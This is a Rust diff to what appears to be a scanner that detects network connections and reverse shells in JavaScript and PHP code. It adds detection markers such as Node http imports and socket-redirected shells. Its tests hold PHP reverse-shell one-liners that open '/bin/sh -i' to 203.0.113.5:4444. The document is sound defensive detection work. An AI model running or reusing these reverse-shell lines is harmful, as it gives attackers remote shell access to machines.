@@ -78,6 +78,11 @@ const MARKERS: &[LanguageMarkers] = &[
             "node:net",
             "http.request",
             "https.request",
+            "require('http",
+            "require(\"http",
+            "from 'http",
+            "from \"http",
+            "node:http",
             "http.get",
             "https.get",
             "fetch(",
@@ -173,7 +178,15 @@ const MARKERS: &[LanguageMarkers] = &[
             "/bin/sh",
             "/bin/bash",
         ],
-        wires: &["proc_open", "array(0=>$", "[0=>$", "0=>$sock", "STDIN"],
+        wires: &[
+            "proc_open",
+            "array(0=>$",
+            "[0=>$",
+            "0=>$sock",
+            "STDIN",
+            // A shell given the socket's descriptor: `exec("/bin/sh -i <&3 >&3 2>&3")`.
+            "<&",
+        ],
     },
 ];
 
@@ -387,6 +400,11 @@ mod tests {
         );
         let u = network_use(JavaScript, "require('net').connect(80, 'api.example.com')");
         assert_eq!(u.endpoints, [host("api.example.com", None)]);
+        let u = network_use(
+            JavaScript,
+            "require('https').request({host:'api.example.com'}).end(x)",
+        );
+        assert!(u.connects);
         let u = network_use(JavaScript, "fetch(\"http://10.0.0.5:8080/x\")");
         assert_eq!(
             u.endpoints,
@@ -461,6 +479,10 @@ mod tests {
             (
                 Php,
                 "$sock=fsockopen('203.0.113.5',4444);proc_open('/bin/sh -i', array(0=>$sock, 1=>$sock), $pipes);",
+            ),
+            (
+                Php,
+                "$sock=fsockopen('203.0.113.5',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
             ),
             (
                 JavaScript,
